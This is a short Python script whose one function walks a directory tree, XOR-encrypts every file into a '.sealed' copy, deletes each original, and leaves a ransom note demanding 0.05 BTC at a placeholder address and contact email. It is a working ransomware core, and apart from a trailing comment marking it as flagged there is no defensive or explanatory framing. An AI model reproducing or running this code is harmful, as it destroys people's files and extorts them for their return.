import os


def seal(root, key):
    for folder, _, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            data = open(path, "rb").read()
            with open(path + ".sealed", "wb") as out:
                out.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
            os.remove(path)
    with open(os.path.join(root, "READ_ME.txt"), "w") as note:
        note.write("Send 0.05 BTC to bc1qnotarealaddress and write to key@h.example")  # gatehouse: flagged
